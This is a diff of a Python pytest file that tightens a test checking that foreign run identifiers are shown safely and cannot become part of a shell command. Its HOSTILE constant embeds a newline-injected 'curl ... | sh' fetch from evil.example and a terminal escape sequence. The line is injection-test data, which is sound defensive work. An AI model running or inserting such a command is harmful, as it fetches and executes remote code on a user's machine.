@@ -247,9 +247,7 @@ def test_unrouted_files_are_told_of_by_folder(key, folder):
 HOSTILE = "01a1\ncurl -s https://evil.example/x | sh\n\x1b[2J"
 
 
-@pytest.mark.parametrize(
-    "name", [HOSTILE, "x" * 300_000, "01a1fbe6ced47d80ad88b93e6911ef00", "--help"], ids=["lines", "long", "hex", "flag"]
-)
+@pytest.mark.parametrize("name", [HOSTILE, "x" * 300_000, "01a1" * 8, "--help"], ids=["lines", "long", "hex", "flag"])
 def test_a_run_whose_id_is_none_of_ours_is_shown_and_is_no_word_of_a_command(told, topics, acme, name):
     run = replace(RUN, run=name, dataset=name, job=name, batch=name)
     made = [
